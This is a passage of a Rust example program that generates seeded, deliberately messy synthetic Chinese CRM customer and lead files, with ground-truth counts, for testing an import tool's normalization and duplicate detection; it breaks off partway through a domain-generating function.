//! Generates `examples/crm/data/`: "the messy spreadsheet every company starts from".
//!
//! * `customers.xlsx` — 2,000 customer rows (sheet 客户, after a notes sheet 说明);
//! * `leads-gbk.csv` — 3,000 lead rows as a Chinese Excel exports them (GBK, `,`, CRLF);
//! * `leads-utf8.csv` — the same rows in UTF-8 with a BOM and `;` as the delimiter;
//! * `expected.json` — the counts a correct import must produce, and every rejected row;
//! * `README.md`.
//!
//! Run with `cargo run -p trellis-import --example messy_crm --release`. The output is
//! deterministic (seeded RNG).
//!
//! The counts come from the generator's own ground truth: it decides which rows are
//! the same entity (and how each is spelled), which rows are invalid and why. After
//! writing, the files are read back (calamine, csv + encoding_rs) and a small model of
//! the duplicate rules replays the import to check that bookkeeping, that no two
//! distinct companies, e-mails or phones collide by accident, and that nothing collides
//! with the demo data (`examples/crm/demo.json`).

use std::collections::{HashMap, HashSet};
use std::error::Error;
use std::fs;
use std::path::{Path, PathBuf};
use trellis_meta::dedupe::{DEFAULT_COUNTRY, Matcher, normalize};

use calamine::{Data, Reader, Xlsx, open_workbook};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Workbook};
use serde_json::{Value, json};

type Res<T> = Result<T, Box<dyn Error>>;

const SEED: u64 = 20261130;

const CUSTOMER_ROWS: usize = 2000;
const CUSTOMER_DUPS: usize = 350;
const CUSTOMER_FLAGS: usize = 60;
const CUSTOMER_INVALID: usize = 60;

const LEAD_ROWS: usize = 3000;
const LEAD_SKIPS: usize = 250;
const LEAD_FLAGS: usize = 80;
const LEAD_INVALID: usize = 90;

// ---------------------------------------------------------------------------------
// Vocabulary
// ---------------------------------------------------------------------------------

/// A select option: value, zh-CN label, en label (as in the form definitions).
type Opt = (&'static str, &'static str, &'static str);

const TYPES: [Opt; 2] = [
    ("company", "企业", "Company"),
    ("person", "个人", "Individual"),
];

const SOURCES: [Opt; 7] = [
    ("website", "官网注册", "Website sign-up"),
    ("consult", "官网咨询", "Website inquiry"),
    ("expo", "展会", "Trade show"),
    ("referral", "口碑推荐", "Word-of-mouth referral"),
    ("ads", "线上广告", "Online ads"),
    ("social", "社交媒体", "Social media"),
    ("search", "搜索引擎", "Search engine"),
];

const SCALES: [Opt; 5] = [
    ("micro", "20人以下", "Fewer than 20 employees"),
    ("small", "20–99人", "20–99 employees"),
    ("medium", "100–499人", "100–499 employees"),
    ("large", "500–999人", "500–999 employees"),
    ("enterprise", "1000人以上", "1,000 employees or more"),
];

const REGIONS: [Opt; 5] = [
    ("north", "华北", "North China"),
    ("east", "华东", "East China"),
    ("south", "华南", "South China"),
    ("central", "华中", "Central China"),
    ("west", "西部", "Western China"),
];

const LEVELS: [Opt; 3] = [
    ("a", "A类（重点客户）", "A – key account"),
    ("b", "B类（普通客户）", "B – regular"),
    ("c", "C类（一般客户）", "C – small or potential"),
];

/// Lead statuses used: `lost` needs a reason and `converted` is closed, so neither.
const STATUSES: [Opt; 3] = [
    ("new", "未联系", "New"),
    ("contacted", "已联系", "Contacted"),
    ("qualified", "有效线索", "Qualified"),
];

struct Industry {
    opt: Opt,
    /// Trade words: zh, en, pinyin stem for domains.
    words: &'static [(&'static str, &'static str, &'static str)],
}

const INDUSTRIES: [Industry; 10] = [
    Industry {
        opt: ("manufacturing", "制造业", "Manufacturing"),
        words: &[
            ("精密机械", "Precision Machinery", "jmjx"),
            ("汽车零部件", "Auto Parts", "autoparts"),
            ("包装材料", "Packaging", "pack"),
            ("电子", "Electronics", "elec"),
            ("五金制品", "Metalworks", "metal"),
        ],
    },
    Industry {
        opt: ("it", "信息技术/互联网", "IT & internet"),
        words: &[
            ("科技", "Technologies", "tech"),
            ("信息技术", "Information Technology", "it"),
            ("软件", "Software", "soft"),
            ("网络科技", "Networks", "net"),
            ("数据服务", "Data Services", "data"),
        ],
    },
    Industry {
        opt: ("finance", "金融", "Financial services"),
        words: &[
            ("投资管理", "Investment Management", "invest"),
            ("融资租赁", "Leasing", "leasing"),
            ("保险代理", "Insurance Agency", "insure"),
        ],
    },
    Industry {
        opt: ("retail", "零售/快消", "Retail & consumer goods"),
        words: &[
            ("食品", "Foods", "food"),
            ("商贸", "Trading", "trade"),
            ("日用品", "Consumer Goods", "goods"),
            ("服饰", "Apparel", "apparel"),
        ],
    },
    Industry {
        opt: ("logistics", "物流运输", "Logistics & transport"),
        words: &[
            ("物流", "Logistics", "logistics"),
            ("供应链管理", "Supply Chain", "scm"),
            ("货运代理", "Freight", "freight"),
        ],
    },
    Industry {
        opt: ("healthcare", "医疗健康", "Healthcare"),
        words: &[
            ("医疗器械", "Medical Devices", "med"),
            ("生物医药", "Biopharma", "bio"),
            ("健康管理", "Health Management", "health"),
        ],
    },
    Industry {
        opt: ("education", "教育培训", "Education"),
        words: &[
            ("教育咨询", "Education Consulting", "edu"),
            ("职业培训", "Training", "training"),
        ],
    },
    Industry {
        opt: ("energy", "能源", "Energy"),
        words: &[
            ("新能源", "New Energy", "energy"),
            ("光伏科技", "Solar", "solar"),
            ("环保科技", "Environmental Technologies", "eco"),
        ],
    },
    Industry {
        opt: ("construction", "建筑/房地产", "Construction & real estate"),
        words: &[
            ("建设工程", "Construction", "build"),
            ("建材", "Building Materials", "bm"),
            ("装饰工程", "Interiors", "deco"),
            ("置业", "Properties", "property"),
        ],
    },
    Industry {
        opt: ("other", "其他", "Other"),
        words: &[
            ("文化传媒", "Media", "media"),
            ("农业科技", "Agritech", "agri"),
            ("旅游", "Travel", "travel"),
        ],
    },
];

/// Index of the industry `other` (individual customers).
const OTHER_INDUSTRY: usize = 9;

struct City {
    zh: &'static str,
    /// Spellings the `city` field's normalize map knows (plus case variants).
    spellings: &'static [&'static str],
    py: &'static str,
    region: usize,
    /// Area code without the trunk 0.
    area: &'static str,
    districts: &'static [&'static str],
}

const CITIES: [City; 8] = [
    City {
        zh: "北京",
        spellings: &[
            "北京",
            "北京",
            "北京市",
            "Beijing",
            "beijing",
            "BEIJING",
            "Peking",
        ],
        py: "Beijing",
        region: 0,
        area: "10",
        districts: &["朝阳区", "海淀区", "东城区", "丰台区", "大兴区"],
    },
    City {
        zh: "上海",
        spellings: &["上海", "上海", "上海市", "Shanghai", "shanghai", "SHANGHAI"],
        py: "Shanghai",
        region: 1,
        area: "21",
        districts: &["浦东新区", "徐汇区", "闵行区", "静安区", "嘉定区"],
    },
    City {
        zh: "广州",
        spellings: &["广州", "广州", "广州市", "Guangzhou", "guangzhou", "Canton"],
        py: "Guangzhou",
        region: 2,
        area: "20",
        districts: &["天河区", "越秀区", "番禺区", "白云区", "黄埔区"],
    },
    City {
        zh: "深圳",
        spellings: &["深圳", "深圳", "深圳市", "Shenzhen", "shenzhen", "SHENZHEN"],
        py: "Shenzhen",
        region: 2,
        area: "755",
        districts: &["南山区", "福田区", "宝安区", "龙岗区", "罗湖区"],
    },
    City {
        zh: "杭州",
        spellings: &["杭州", "杭州", "杭州市", "Hangzhou", "hangzhou"],
        py: "Hangzhou",
        region: 1,
        area: "571",
        districts: &["西湖区", "滨江区", "余杭区", "拱墅区", "萧山区"],
    },
    City {
        zh: "成都",
        spellings: &["成都", "成都", "成都市", "Chengdu", "chengdu", "CHENGDU"],
        py: "Chengdu",
        region: 4,
        area: "28",
        districts: &["武侯区", "锦江区", "高新区", "青羊区", "成华区"],
    },
    City {
        zh: "武汉",
        spellings: &["武汉", "武汉", "武汉市", "Wuhan", "wuhan"],
        py: "Wuhan",
        region: 3,
        area: "27",
        districts: &["江汉区", "洪山区", "武昌区", "汉阳区", "东西湖区"],
    },
    City {
        zh: "南京",
        spellings: &["南京", "南京", "南京市", "Nanjing", "nanjing", "NANJING"],
        py: "Nanjing",
        region: 1,
        area: "25",
        districts: &["鼓楼区", "玄武区", "江宁区", "建邺区", "秦淮区"],
    },
];

const ROADS: [&str; 12] = [
    "人民路",
    "建设路",
    "中山路",
    "解放路",
    "科技路",
    "新华路",
    "长江路",
    "和平路",
    "文化路",
    "创业大道",
    "学府路",
    "滨河路",
];

/// Brand words (none of them occurs in the demo data; checked at run time).
const BRANDS: [(&str, &str); 100] = [
    ("鼎盛", "dingsheng"),
    ("瑞泰", "ruitai"),
    ("宏达", "hongda"),
    ("永信", "yongxin"),
    ("嘉禾", "jiahe"),
    ("康泰", "kangtai"),
    ("华盛", "huasheng"),
    ("金桥", "jinqiao"),
    ("中联", "zhonglian"),
    ("新元", "xinyuan"),
    ("天成", "tiancheng"),
    ("盛世", "shengshi"),
    ("德润", "derun"),
    ("安信", "anxin"),
    ("聚源", "juyuan"),
    ("远航", "yuanhang"),
    ("启明", "qiming"),
    ("明辉", "minghui"),
    ("长青", "changqing"),
    ("海纳", "haina"),
    ("凯达", "kaida"),
    ("博瑞", "borui"),
    ("联创", "lianchuang"),
    ("信达", "xinda"),
    ("泰和", "taihe"),
    ("宏图", "hongtu"),
    ("恒信", "hengxin"),
    ("誉峰", "yufeng"),
    ("中天", "zhongtian"),
    ("福瑞", "furui"),
    ("锦华", "jinhua"),
    ("昌盛", "changsheng"),
    ("伟业", "weiye"),
    ("融通", "rongtong"),
    ("广源", "guangyuan"),
    ("恒丰", "hengfeng"),
    ("海川", "haichuan"),
    ("青松", "qingsong"),
    ("卓越", "zhuoyue"),
    ("飞扬", "feiyang"),
    ("腾达", "tengda"),
    ("瑞祥", "ruixiang"),
    ("金鼎", "jinding"),
    ("汇通", "huitong"),
    ("永安", "yongan"),
    ("新纪元", "xinjiyuan"),
    ("星河", "xinghe"),
    ("银河", "yinhe"),
    ("九州", "jiuzhou"),
    ("天润", "tianrun"),
    ("和信", "hexin"),
    ("同创", "tongchuang"),
    ("亿达", "yida"),
    ("佳诚", "jiacheng"),
    ("明德", "mingde"),
    ("东升", "dongsheng"),
    ("南星", "nanxing"),
    ("北辰", "beichen"),
    ("中宇", "zhongyu"),
    ("华信", "huaxin"),
    ("凌云", "lingyun"),
    ("蓝海", "lanhai"),
    ("绿洲", "lvzhou"),
    ("金石", "jinshi"),
    ("沃土", "wotu"),
    ("云图", "yuntu"),
    ("智远", "zhiyuan"),
    ("鸿运", "hongyun"),
    ("安泰", "antai"),
    ("兴业", "xingye"),
    ("元亨", "yuanheng"),
    ("君和", "junhe"),
    ("立信", "lixin"),
    ("弘毅", "hongyi"),
    ("嘉德", "jiade"),
    ("鑫源", "xinyuan"),
    ("睿智", "ruizhi"),
    ("恒达", "hengda"),
    ("三和", "sanhe"),
    ("正源", "zhengyuan"),
    ("长风", "changfeng"),
    ("泰然", "tairan"),
    ("聚力", "juli"),
    ("天合", "tianhe"),
    ("汇智", "huizhi"),
    ("宇航", "yuhang"),
    ("世纪", "shiji"),
    ("骏马", "junma"),
    ("灵犀", "lingxi"),
    ("翰林", "hanlin"),
    ("锐思", "ruisi"),
    ("朗润", "langrun"),
    ("i云", "iyun"),
    ("E家", "ejia"),
    ("KX", "kx"),
    ("BDT", "bdt"),
    ("V派", "vpai"),
    ("Q立方", "qlifang"),
    ("HM", "hm"),
    ("优U", "youu"),
];

const ADJS: [&str; 24] = [
    "Silver", "Golden", "Blue", "Crimson", "Northern", "Eastern", "Summit", "Crystal", "Royal",
    "Swift", "Noble", "Prime", "Lucky", "Jade", "Ocean", "Maple", "Cedar", "Harbor", "Lotus",
    "Phoenix", "Dragon", "Eagle", "Apex", "Nova",
];

const NOUNS: [&str; 20] = [
    "Bay", "Bridge", "River", "Stone", "Peak", "Field", "Gate", "Wave", "Point", "Crest", "Line",
    "Ridge", "Tree", "Rock", "Port", "Hill", "Lake", "Wind", "Light", "Path",
];

/// Legal-form suffixes of a first occurrence (weighted by repetition).
const ZH_SUFFIXES: [&str; 16] = [
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "有限公司",
    "股份有限公司",
    "股份有限公司",
    "有限责任公司",
    "有限责任公司",
    "集团有限公司",
    "公司",
    "",
];

/// Suffixes a repeated row may use instead.
const ZH_VARIANT_SUFFIXES: [&str; 7] = [
    "",
    "",
    "有限公司",
    "有限公司",
    "股份有限公司",
    "有限责任公司",
    "公司",
];

const EN_SUFFIXES: [&str; 6] = ["Co., Ltd.", "Co., Ltd.", "Ltd.", "Limited", "Inc.", "Corp."];

const EN_VARIANT_SUFFIXES: [&str; 9] = [
    "",
    "Co., Ltd.",
    "Co.,Ltd",
    "Ltd",
    "Limited",
    "Inc.",
    "Inc",
    "Corporation",
    "Company Limited",
];

const SURNAMES: [(&str, &str); 60] = [
    ("王", "wang"),
    ("李", "li"),
    ("张", "zhang"),
    ("刘", "liu"),
    ("陈", "chen"),
    ("杨", "yang"),
    ("黄", "huang"),
    ("赵", "zhao"),
    ("吴", "wu"),
    ("周", "zhou"),
    ("徐", "xu"),
    ("孙", "sun"),
    ("马", "ma"),
    ("朱", "zhu"),
    ("胡", "hu"),
    ("郭", "guo"),
    ("何", "he"),
    ("林", "lin"),
    ("高", "gao"),
    ("罗", "luo"),
    ("郑", "zheng"),
    ("梁", "liang"),
    ("谢", "xie"),
    ("宋", "song"),
    ("唐", "tang"),
    ("许", "xu"),
    ("韩", "han"),
    ("冯", "feng"),
    ("邓", "deng"),
    ("曹", "cao"),
    ("彭", "peng"),
    ("曾", "zeng"),
    ("肖", "xiao"),
    ("田", "tian"),
    ("董", "dong"),
    ("潘", "pan"),
    ("袁", "yuan"),
    ("蔡", "cai"),
    ("蒋", "jiang"),
    ("余", "yu"),
    ("杜", "du"),
    ("叶", "ye"),
    ("程", "cheng"),
    ("魏", "wei"),
    ("苏", "su"),
    ("吕", "lv"),
    ("丁", "ding"),
    ("任", "ren"),
    ("沈", "shen"),
    ("姚", "yao"),
    ("卢", "lu"),
    ("钟", "zhong"),
    ("姜", "jiang"),
    ("崔", "cui"),
    ("谭", "tan"),
    ("陆", "lu"),
    ("范", "fan"),
    ("廖", "liao"),
    ("石", "shi"),
    ("金", "jin"),
];

const GIVEN: [(&str, &str); 60] = [
    ("伟", "wei"),
    ("芳", "fang"),
    ("娜", "na"),
    ("敏", "min"),
    ("静", "jing"),
    ("丽", "li"),
    ("强", "qiang"),
    ("磊", "lei"),
    ("军", "jun"),
    ("洋", "yang"),
    ("勇", "yong"),
    ("艳", "yan"),
    ("杰", "jie"),
    ("娟", "juan"),
    ("涛", "tao"),
    ("明", "ming"),
    ("超", "chao"),
    ("秀", "xiu"),
    ("霞", "xia"),
    ("平", "ping"),
    ("刚", "gang"),
    ("文", "wen"),
    ("华", "hua"),
    ("辉", "hui"),
    ("玲", "ling"),
    ("建", "jian"),
    ("国", "guo"),
    ("志", "zhi"),
    ("晓", "xiao"),
    ("海", "hai"),
    ("红", "hong"),
    ("燕", "yan"),
    ("鹏", "peng"),
    ("宇", "yu"),
    ("浩", "hao"),
    ("欣", "xin"),
    ("婷", "ting"),
    ("雪", "xue"),
    ("琳", "lin"),
    ("佳", "jia"),
    ("俊", "jun"),
    ("凯", "kai"),
    ("嘉", "jia"),
    ("思", "si"),
    ("雨", "yu"),
    ("梦", "meng"),
    ("晨", "chen"),
    ("阳", "yang"),
    ("斌", "bin"),
    ("峰", "feng"),
    ("云", "yun"),
    ("飞", "fei"),
    ("振", "zhen"),
    ("宏", "hong"),
    ("春", "chun"),
    ("亮", "liang"),
    ("慧", "hui"),
    ("颖", "ying"),
    ("倩", "qian"),
    ("瑶", "yao"),
];

const EN_FIRST: [&str; 16] = [
    "Anna", "David", "Michael", "Emily", "Kevin", "Grace", "Jason", "Linda", "Peter", "Sophie",
    "Tony", "Vivian", "Eric", "Cindy", "Frank", "Helen",
];

const TITLES_ZH: [&str; 15] = [
    "总经理",
    "副总经理",
    "销售总监",
    "市场部经理",
    "IT经理",
    "采购经理",
    "运营总监",
    "技术总监",
    "行政主管",
    "财务经理",
    "董事长助理",
    "信息部主管",
    "产品经理",
    "人力资源总监",
    "门店经理",
];

const TITLES_EN: [&str; 7] = [
    "CEO",
    "General Manager",
    "Sales Director",
    "IT Manager",
    "Procurement Manager",
    "Operations Manager",
    "Marketing Director",
];

const MAIL_PREFIXES: [&str; 7] = [
    "info", "sales", "contact", "service", "office", "admin", "hr",
];

const MAILBOXES: [&str; 3] = ["163.example.cn", "qq.example.cn", "mail.example.cn"];

const MOBILE_PREFIXES: [&str; 16] = [
    "135", "136", "137", "139", "150", "151", "152", "158", "159", "177", "182", "186", "187",
    "188", "189", "199",
];

/// The demo products, by name (examples/crm/demo.json).
const PRODUCTS: [&str; 8] = [
    "智联CRM 标准版（年度订阅）",
    "智联CRM 专业版（年度订阅）",
    "智联CRM 企业版（年度订阅）",
    "实施顾问服务",
    "历史数据迁移服务",
    "管理员认证培训",
    "工业数据采集网关 GW-100",
    "私有化部署许可（永久）",
];

const CUSTOMER_NOTES: [&str; 12] = [
    "老客户，2019年起合作",
    "展会名片录入",
    "需回访",
    "联系人已离职，待更新",
    "重要客户，每季度拜访",
    "电话打不通",
    "从旧ERP导出",
    "发票抬头与客户名称一致",
    "合同2025年6月到期",
    "由华东区销售移交",
    "有意向续约",
    "信息待核实",
];

const LEAD_NOTES: [&str; 10] = [
    "已发产品手册",
    "客户要求先报价",
    "周二下午方便联系",
    "需求：多门店库存同步",
    "对私有化部署感兴趣",
    "展会现场扫码",
    "预算审批中",
    "已加微信",
    "想看同行案例",
    "下季度再联系",
];

// ---------------------------------------------------------------------------------
// Columns
// ---------------------------------------------------------------------------------

const CUSTOMER_HEADERS: [&str; 14] = [
    "客户名称",
    "客户类型*",
    "Industry",
    "客户来源",
    "公司规模",
    "注册资本（元）",
    "所属区域",
    "城市",
    "详细地址",
    "电话",
    "E-mail",
    "公司网站",
    "客户等级",
    "备注",
];

const C_NAME: usize = 0;
const C_TYPE: usize = 1;
const C_INDUSTRY: usize = 2;
const C_SOURCE: usize = 3;
const C_SCALE: usize = 4;
const C_CAPITAL: usize = 5;
const C_REGION: usize = 6;
const C_CITY: usize = 7;
const C_ADDRESS: usize = 8;
const C_PHONE: usize = 9;
const C_EMAIL: usize = 10;
const C_WEBSITE: usize = 11;
const C_LEVEL: usize = 12;
const C_NOTE: usize = 13;
const C_COLS: usize = 14;

const LEAD_HEADERS: [&str; 17] = [
    "公司名称",
    "联系人姓名",
    "职位",
    "手机号",
    "邮箱",
    "Source",
    "所属行业",
    "所属区域",
    "城市",
    "Employees",
    "预算（元）",
    "意向产品",
    "已下载价格表",
    "核心页面访问次数",
    "跟进状态",
    "首次联系时间",
    "备注",
];

const L_COMPANY: usize = 0;
const L_CONTACT: usize = 1;
const L_TITLE: usize = 2;
const L_PHONE: usize = 3;
const L_EMAIL: usize = 4;
const L_SOURCE: usize = 5;
const L_INDUSTRY: usize = 6;
const L_REGION: usize = 7;
const L_CITY: usize = 8;
const L_EMPLOYEES: usize = 9;
const L_BUDGET: usize = 10;
const L_INTEREST: usize = 11;
const L_DOWNLOADED: usize = 12;
const L_VISITS: usize = 13;
const L_STATUS: usize = 14;
const L_FIRST_AT: usize = 15;
const L_NOTE: usize = 16;
const L_COLS: usize = 17;

// ---------------------------------------------------------------------------------
// Ground truth
// ---------------------------------------------------------------------------------

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Created,
    Merged,
    Flagged,
    Skipped,
    Rejected,
}

#[derive(Clone, Copy, Debug)]
struct Truth {
    kind: Kind,
    /// Rejected rows: the offending column and the reason.
    reject: Option<(usize, &'static str)>,
    /// Merged and skipped rows: the row (0-based) the entity first appeared in; flagged
    /// rows: the row whose phone they share.
    same_as: Option<usize>,
}

impl Truth {
    fn of(kind: Kind) -> Self {
        Truth {
            kind,
            reject: None,
            same_as: None,
        }
    }
    fn like(kind: Kind, row: usize) -> Self {
        Truth {
            kind,
            reject: None,
            same_as: Some(row),
        }
    }
    fn rejected(col: usize, reason: &'static str) -> Self {
        Truth {
            kind: Kind::Rejected,
            reject: Some((col, reason)),
            same_as: None,
        }
    }
}

#[derive(Clone, Debug, PartialEq)]
enum Cell {
    Empty,
    Text(String),
    Num(f64),
}

#[derive(Clone, Debug, PartialEq, Eq)]
enum Phone {
    Mobile(String),
    Land { area: &'static str, local: String },
}

impl Phone {
    fn styles(&self) -> usize {
        match self {
            Phone::Mobile(_) => 7,
            Phone::Land { .. } => 5,
        }
    }

    /// The number in one of the ways people write it.
    fn format(&self, style: usize) -> String {
        match self {
            Phone::Mobile(m) => {
                let (a, b, c) = (&m[0..3], &m[3..7], &m[7..11]);
                match style {
                    0 => m.clone(),
                    1 => format!("{a}-{b}-{c}"),
                    2 => format!("{a} {b} {c}"),
                    3 => format!("+86 {a}-{b}-{c}"),
                    4 => format!("+86 {m}"),
                    5 => format!("0086 {m}"),
                    _ => format!("+86{m}"),
                }
            }
            Phone::Land { area, local } => {
                let (a, b) = (&local[0..4], &local[4..8]);
                match style {
                    0 => format!("0{area}-{local}"),
                    1 => format!("(0{area}) {a}-{b}"),
                    2 => format!("+86 {area} {a} {b}"),
                    3 => format!("0{area} {a} {b}"),
                    _ => format!("(0{area}){local}"),
                }
            }
        }
    }

    /// The canonical number (country code 86, no trunk 0): two rows have the same phone
    /// exactly when this is equal.
    fn canonical(&self) -> String {
        match self {
            Phone::Mobile(m) => format!("86{m}"),
            Phone::Land { area, local } => format!("86{area}{local}"),
        }
    }

    /// A style other than `not`.
    fn other_style(&self, rng: &mut StdRng, not: usize) -> usize {
        loop {
            let s = rng.random_range(0..self.styles());
            if s != not {
                return s;
            }
        }
    }
}

// ---------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------

fn pick<'a, T>(rng: &mut StdRng, items: &'a [T]) -> &'a T {
    &items[rng.random_range(0..items.len())]
}

fn thousands(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, ch) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(ch);
    }
    out
}

/// ASCII to full width (what a Chinese IME in full-width mode types).
fn full_width(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            ' ' => '\u{3000}',
            '!'..='~' => char::from_u32(c as u32 + 0xFEE0).unwrap_or(c),
            _ => c,
        })
        .collect()
}

/// Leading/trailing white space, as pasted cells have.
fn pad(rng: &mut StdRng, s: &str) -> String {
    match rng.random_range(0..6) {
        0 => format!(" {s}"),
        1 => format!("{s} "),
        2 => format!("  {s}  "),
        3 => format!("{s}  "),
        4 => format!(" {s} "),
        _ => format!("{s}\u{3000}"),
    }
}

fn maybe_pad(rng: &mut StdRng, s: String, p: f64) -> String {
    if rng.random_bool(p) { pad(rng, &s) } else { s }
}

/// An option as someone typed it: mostly the zh-CN label, else the English label or the
/// value, in any case.
fn spell(rng: &mut StdRng, o: &Opt) -> String {
    let s = match rng.random_range(0..100) {
        0..50 => o.1.to_string(),
        50..66 => o.2.to_string(),
        66..82 => o.0.to_string(),
        82..89 => o.2.to_uppercase(),
        89..95 => o.2.to_lowercase(),
        _ => o.0.to_uppercase(),
    };
    maybe_pad(rng, s, 0.03)
}

fn city_text(rng: &mut StdRng, city: usize) -> String {
    let s = pick(rng, CITIES[city].spellings).to_string();
    maybe_pad(rng, s, 0.04)
}

fn capitalize(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().chain(c).collect(),
        None => String::new(),
    }
}

/// An e-mail address as typed: sometimes with capitals or spaces around.
fn email_text(rng: &mut StdRng, email: &str) -> String {
    let s = match rng.random_range(0..100) {
        0..6 => capitalize(email),
        6..9 => email.to_uppercase(),
        _ => email.to_string(),
    };
    maybe_pad(rng, s, 0.06)
}

/// The same address spelled differently from `prev` (case and spaces only).
fn email_variant(rng: &mut StdRng, email: &str, prev: &str) -> String {
    loop {
        let (local, domain) = email.split_once('@').unwrap_or((email, ""));
        let mut s = match rng.random_range(0..5) {
            0 => email.to_uppercase(),
            1 => capitalize(email),
            2 => format!("{local}@{}", domain.to_uppercase()),
            3 => format!(
                "{}@{domain}",
                local
                    .split('.')
                    .map(capitalize)
                    .collect::<Vec<_>>()
                    .join(".")
            ),
            _ => email.to_string(),
        };
        if rng.random_bool(0.5) {
            s = pad(rng, &s);
        }
        if s != prev {
            return s;
        }
    }
}

fn capital_cell(rng: &mut StdRng, v: u64) -> Cell {
    match rng.random_range(0..9) {
        0 | 1 => Cell::Num(v as f64),
        2 => Cell::Text(format!("{}万", thousands(v / 10_000))),
        3 => Cell::Text(format!("¥{}", thousands(v))),
        4 => Cell::Text(format!("{}万元", v / 10_000)),
        5 => Cell::Text(v.to_string()),
        6 => Cell::Text(format!("￥{}", thousands(v))),
        7 if v >= 100_000_000 && v.is_multiple_of(10_000_000) => {
            if v.is_multiple_of(100_000_000) {
                Cell::Text(format!("{}亿", v / 100_000_000))
            } else {
                Cell::Text(format!(
                    "{}.{}亿",
                    v / 100_000_000,
                    (v % 100_000_000) / 10_000_000
                ))
            }
        }
        _ => Cell::Text(format!("{}.00", thousands(v))),
    }
}

fn budget_text(rng: &mut StdRng, v: u64) -> String {
    match rng.random_range(0..6) {
        0 => format!("￥{}", thousands(v)),
        1 if v.is_multiple_of(10_000) => format!("{}万", v / 10_000),
        1 => format!("{}.{}万", v / 10_000, (v % 10_000) / 1_000),
        2 => format!("{}元", thousands(v)),
        3 => thousands(v),
        _ => v.to_string(),
    }
}

type DateTime = (u32, u32, u32, u32, u32);

fn datetime_text(rng: &mut StdRng, (y, mo, d, h, mi): DateTime) -> String {
    match rng.random_range(0..5) {
        0 => format!("{y}年{mo}月{d}日 {h:02}:{mi:02}"),
        1 => format!("{y}/{mo}/{d} {h}:{mi:02}"),
        2 => format!("{y}-{mo:02}-{d:02} {h:02}:{mi:02}:00"),
        3 => format!("{y}-{mo:02}-{d:02} {h:02}:{mi:02}"),
        _ => format!("{y}-{mo:02}-{d:02}T{h:02}:{mi:02}:00+08:00"),
    }
}

fn bool_text(rng: &mut StdRng, b: bool) -> String {
    let s = if b {
        *pick(rng, &["是", "是", "yes", "Yes", "1", "true", "√"])
    } else {
        *pick(rng, &["否", "否", "no", "NO", "0", "false", "×"])
    };
    s.to_string()
}

// ---------------------------------------------------------------------------------
// Demo data (things not to collide with)
// ---------------------------------------------------------------------------------

struct Demo {
    customer_names: Vec<String>,
    customer_phones: Vec<String>,
    lead_emails: Vec<String>,
    lead_phones: Vec<String>,
    all_phones: Vec<String>,
    all_emails: Vec<String>,
    /// Every name / company / contact name in the demo.
    texts: Vec<String>,
}

fn load_demo(path: &Path) -> Res<Demo> {
    let v: Value = serde_json::from_str(&fs::read_to_string(path)?)?;
    let records = v
        .get("records")
        .and_then(Value::as_object)
        .ok_or("demo.json has no records")?;
    let mut d = Demo {
        customer_names: vec![],
        customer_phones: vec![],
        lead_emails: vec![],
        lead_phones: vec![],
        all_phones: vec![],
        all_emails: vec![],
        texts: vec![],
    };
    for (form, list) in records {
        for r in list.as_array().into_iter().flatten() {
            let get = |k: &str| r.get(k).and_then(Value::as_str).map(str::to_string);
            if let Some(p) = get("phone") {
                d.all_phones.push(p.clone());
                match form.as_str() {
                    "customer" => d.customer_phones.push(p),
                    "lead" => d.lead_phones.push(p),
                    _ => {}
                }
            }
            if let Some(e) = get("email") {
                d.all_emails.push(e.clone());
                if form == "lead" {
                    d.lead_emails.push(e);
                }
            }
            for k in ["name", "company", "contact_name"] {
                if let Some(t) = get(k) {
                    if form == "customer" && k == "name" {
                        d.customer_names.push(t.clone());
                    }
                    d.texts.push(t);
                }
            }
        }
    }
    if d.customer_names.len() != 12 {
        return Err(format!(
            "expected 12 demo customers, found {}",
            d.customer_names.len()
        )
        .into());
    }
    Ok(d)
}

// ---------------------------------------------------------------------------------
// Generator state
// ---------------------------------------------------------------------------------

struct Ctx {
    rng: StdRng,
    /// Canonical phones handed out (and the demo's).
    phones: HashSet<String>,
    /// E-mails handed out, lower case (and the demo's).
    emails: HashSet<String>,
    domains: HashSet<String>,
    /// Customer company keys handed out (checked with [`company_key`]), and the demo's.
    company_keys: HashSet<String>,
    /// (brand, industry, word) of customer companies: each trade name once.
    customer_pairs: HashSet<(usize, usize, usize)>,
    customer_en: HashSet<(usize, usize, usize, usize)>,
    persons: HashSet<String>,
    lead_companies: HashSet<String>,
}

impl Ctx {
    fn new(demo: &Demo) -> Self {
        let mut ctx = Ctx {
            rng: StdRng::seed_from_u64(SEED),
            phones: HashSet::new(),
            emails: HashSet::new(),
            domains: HashSet::new(),
            company_keys: HashSet::new(),
            customer_pairs: HashSet::new(),
            customer_en: HashSet::new(),
            persons: HashSet::new(),
            lead_companies: HashSet::new(),
        };
        ctx.phones
            .extend(demo.all_phones.iter().filter_map(|p| phone_key(p)));
        ctx.emails
            .extend(demo.all_emails.iter().filter_map(|e| email_key(e)));
        ctx.company_keys
            .extend(demo.customer_names.iter().filter_map(|n| company_key(n)));
        // "张伟" is a demo customer; never generate that person.
        ctx.persons.insert("张伟".to_string());
        ctx.persons.extend(demo.texts.iter().cloned());
        ctx
    }

    fn mobile(&mut self) -> Phone {
        loop {
            let p = pick(&mut self.rng, &MOBILE_PREFIXES);
            let rest: u32 = self.rng.random_range(0..100_000_000);
            let ph = Phone::Mobile(format!("{p}{rest:08}"));
            if self.phones.insert(ph.canonical()) {
                return ph;
            }
        }
    }

    fn landline(&mut self, city: usize) -> Phone {
        loop {
            let local: u32 =
                self.rng.random_range(2..9) * 10_000_000 + self.rng.random_range(0..10_000_000);
            let ph = Phone::Land {
                area: CITIES[city].area,
                local: local.to_string(),
            };
            if self.phones.insert(ph.canonical()) {
                return ph;
            }
        }
    }

    fn domain(&mut self, stem: &str, tld: &str) -> String {
        let mut n = 1;
        loop {
            let d = if n == 1 {
                format!("{stem}.{tld}")
            } else {
                format!("{stem}{n}.{tld}")
            };
